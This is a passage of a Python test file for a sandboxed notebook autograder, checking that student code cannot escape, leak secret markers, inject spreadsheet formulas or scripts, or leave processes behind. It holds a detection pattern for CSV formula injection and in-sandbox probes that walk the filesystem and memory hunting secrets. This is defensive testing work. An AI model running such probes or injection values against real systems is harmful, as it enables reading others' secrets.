    hand_in(folder, port, name)
    command = [sys.executable, "-c", RUN, "grade", FILE, "submissions", "out"]
    command += ["--jobs", str(JOBS), "--secret-file", "secret"]
    before = hashes(folder / "submissions"), hashes(ROOT / "xentlib")
    process = start(command, folder)
    after = hashes(folder / "submissions"), hashes(ROOT / "xentlib")
    yield Run(folder, command, reached, before, after, process)
    shutil.rmtree(folder)


def test_the_command_grades_everyone_once_and_to_the_end(run):
    assert run.process.returncode == 0, run.process.stderr[-2000:]
    assert "Traceback" not in run.process.stderr
    assert len({row[0] for row in run.rows()}) == len(run.rows()) == len(CASES)
    assert len(list((run.out / "feedback").iterdir())) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda case: ascii(case.name))
def test_each_gets_what_it_deserves(run, case):
    rows = [row for row in run.rows() if row[0] == cell_text(case.student)]
    assert len(rows) == 1
    _, _, status, auto, _, *scores, _, notes = rows[0]
    deserved = ["", "", ""] if case.scores is None else list(map(str, case.scores))
    assert (scores, status) == (deserved, case.status), notes
    assert auto == ("" if case.scores is None else str(sum(case.scores)))
    assert case.note in notes
    assert (status in ("ok", "MISSING")) == (notes == "")
    if case.says:
        assert case.says in run.results()[case.student]["messages"]["entropy-test"]


def test_nobody_else_is_touched(run):
    assert run.before == run.after


def test_nobody_gets_out(run):
    assert run.reached == []


def test_nothing_is_left_running(run):
    end = time.monotonic() + 10
    while left_running() and time.monotonic() < end:
        time.sleep(0.1)
    assert left_running() == []


def test_nothing_hidden_is_in_what_is_written(run):
    assert all(re.fullmatch(r"marker-\d{6}", text) for text in (SECRET, HIDDEN, ELSEWHERE))
    for path in run.out.rglob("*"):
        assert not path.is_symlink()
        assert path.is_dir() or not re.search(rb"marker-\d{6}", path.read_bytes()), path


TAGS = {
    "a",
    "h1",
    "div",
    "p",
    "nav",
    "title",
    "ul",
    "details",
    "h2",
    "head",
    "th",
    "bdi",
    "code",
    "strong",
    "style",
    "tbody",
    "main",
    "pre",
    "ol",
    "html",
    "tr",
    "thead",
    "caption",
    "section",
    "span",
    "td",
    "body",
    "table",
    "li",
    "tfoot",
    "h3",
    "meta",
    "article",
    "summary",
}
ATTRIBUTES = {
    "charset",
    "class",
    "open",
    "id",
    "scope",
    "lang",
    "http-equiv",
    "href",
    "name",
    "content",
    "aria-label",
    "dir",
}


def test_no_page_has_a_script_or_a_way_out(run):
    pages = list(run.out.rglob("*.html"))
    assert len(pages) == len(CASES) + 1
    for path in pages:
        text = path.read_text("utf-8")
        page = BeautifulSoup(text, "html.parser")
        assert {tag.name for tag in page.find_all()} <= TAGS, path
        assert {name for tag in page.find_all() for name in tag.attrs} <= ATTRIBUTES, path
        assert all(tag.get("href", "#").startswith("#") for tag in page.find_all()), path
        assert len(page.find_all("style")) == 1
        assert "default-src 'none'" in page.find("meta", attrs={"http-equiv": True})["content"]
        assert not re.search("[\0-\x08\x0b-\x1f\x7f]", text), path
        assert path.stat().st_size < 1_000_000


def test_what_a_student_wrote_stands_there_as_text(run):
    page = BeautifulSoup((run.out / "written.html").read_text("utf-8"), "html.parser")
    assert MARKUP in page.get_text()
    page = run.out / "feedback" / f"{PERSON}markup in a message.html"
    assert MARKUP in BeautifulSoup(page.read_text("utf-8"), "html.parser").get_text()


@pytest.mark.parametrize("name", ["grades.csv", "grades-canvas.csv", "grades-moodle.csv"])
def test_no_table_has_a_formula_or_a_control_character(run, name):
    text = (run.out / name).read_text("utf-8-sig")
    assert not re.search("[\0-\x09\x0b\x0c\x0e-\x1f\x7f]", text)
    for delimiter in ",;\t":  # whatever a spreadsheet takes for it
        for row in csv.reader(text.splitlines(), delimiter=delimiter):
            assert not [cell for cell in row if re.match(r"\s*[=+\-@]", cell)]
    assert any("'=1+1" in cell for row in table(run.out / name) for cell in row)


def test_the_names_of_reports_stay_in_their_folder(run):
    for path in (run.out / "feedback").iterdir():
        assert path.is_file() and re.fullmatch(r"[\w .@-]+\.html", path.name), path
        assert not path.name.startswith((".", "-"))


def test_a_second_run_grades_nobody_again(run):
    before = hashes(run.out)
    process = run.again()
    assert process.returncode == 0, process.stderr[-2000:]
    assert hashes(run.out) == before


def test_collecting_loses_nobody_who_can_be_read(run, tmp_path, capsys):
    folder = run.folder
    assert (
        main(["collect", *(str(p) for p in (folder / FILE, folder / "submissions", tmp_path))]) == 0
    )
    readable = [case for case in CASES if case.status in ("ok", "REVIEW")]
    assert len(list(tmp_path.rglob("*.ipynb"))) == len(readable)
    assert capsys.readouterr().out.count("not collected:") == len(CASES) - len(readable)


# The search finds what is there to be found


def test_the_search_of_the_cases_above_finds_a_mark_that_is_there():
    code = (
        LOOK
        + """
open("/tmp/mark", "w").write("-".join(["marker", "1" * 6]))
look("/tmp/mark")
in_file = len(found)
found.clear()
there = "-".join(["marker", "2" * 6])
seen = memory(os.getpid())
in_memory = len(found)"""
    )
    with Sandbox([("code", code)], PERSON + "search", Limits(call=20)) as box:
        assert box.errors == {}
        assert box.get("in_file") == 1
        assert box.get("in_memory") >= 1


def test_no_file_in_sight_holds_a_mark_or_is_as_new_as_the_class(tmp_path):
    for name, text in (("secret", SECRET), ("hidden", HIDDEN), ("notes", ELSEWHERE)):
        (tmp_path / f"{name}-of-class").write_text(text)
    born = (tmp_path / "secret-of-class").stat().st_ctime - 1
    code = (
        LOOK
        + f"""
import sys
NAMES = {{"secret-of-class", "hidden-of-class", "notes-of-class", {Path(__file__).name!r}}}
seen, new, files = [], [], 0
def walk(folder):
    global files
    try:
        entries = list(os.scandir(folder))
    except OSError:
        return
    for entry in entries:
        if entry.is_dir(follow_symlinks=False):
            if entry.path != "/proc":
                walk(entry.path)
            continue
        files += 1
        installed = entry.path.startswith(("/usr/", "/dev/", sys.prefix, sys.base_prefix))
        if entry.name in NAMES or not (installed or entry.is_symlink()):
            seen.append(entry.path)
            look(entry.path)
            if entry.stat().st_ctime >= {born!r}:
                new.append(entry.path)
def search():
    walk("/")
    return len(found), len(seen), files, new
def open_files():
    return [os.readlink(f"/proc/self/fd/{{fd}}") for fd in range(64)
            if os.path.exists(f"/proc/self/fd/{{fd}}")]
"""
    )
    with Sandbox([("code", code)], PERSON + "walk", Limits(call=120, total=150)) as box:
        found, seen, files, new = box.get("search")()
        assert (found, new) == (0, [])
        assert files > 1000 and seen > 5
        # Some systems' libffi opens itself.
        harmless = r"/dev/null|socket:|pipe:|/dev/urandom|/usr/lib/.*\.so[.\d]*$"
        assert all(re.match(harmless, f) for f in box.get("open_files")())


# Without a sandbox


def test_without_bubblewrap_nothing_is_run_unless_asked(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox, "available", lambda: False)
    monkeypatch.setattr(subprocess, "Popen", lambda *a, **k: pytest.fail("a process was started"))
    (tmp_path / FILE).write_text(notebook.writes(source()))
    BY_NAME["solved"].write(tmp_path / "submissions" / "ada")
    command = ["grade", *(str(tmp_path / p) for p in (FILE, "submissions", "out")), "--jobs", "1"]
    assert main(command) == 2
    said = capsys.readouterr().err
    assert "bubblewrap" in said and "--unsafe" in said and "read your files" in said
    assert not (tmp_path / "out").exists()
    with pytest.raises(RuntimeError, match="bubblewrap"):
        grading.grade(source(), solved(), student="ada")


def test_unsafe_grades_who_asks_for_it(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "available", lambda: False)
    result = grading.grade(source(), solved(), student="ada", unsafe=True)
    assert tuple(result.scores.values()) == FULL


def each_alone():
    """Grade each case by the command, alone; print the table: case, deserved, given, seconds."""
    grading.Limits = partial(Limits, **QUICK)
    print(f"{'case':70} {'deserved':>20} {'given':>20} {'s':>5}")
    for case in CASES:
        with tempfile.TemporaryDirectory() as name:
            folder = Path(name)
            hand_in(folder, 9, "\0nobody", [case])
            begin = time.monotonic()
            with joblib.parallel_config("threading"), contextlib.redirect_stdout(None):
                command = [str(folder / each) for each in (FILE, "submissions", "out")]
                main(["grade", *command, "--jobs", "1", "--secret-file", str(folder / "secret")])
            seconds = time.monotonic() - begin
            ((_, _, status, _, _, *scores, _, _),) = table(folder / "out" / "grades.csv")[1:]
        deserved = f"{'/'.join(map(str, case.scores or '---'))} {case.status}"
        given = f"{'/'.join(score or '-' for score in scores)} {status}"
        shown = ascii(case.name)[1:-1]
        print(f"{shown:70} {deserved:>20} {given:>20} {seconds:5.1f}", flush=True)


if __name__ == "__main__":
    each_alone()
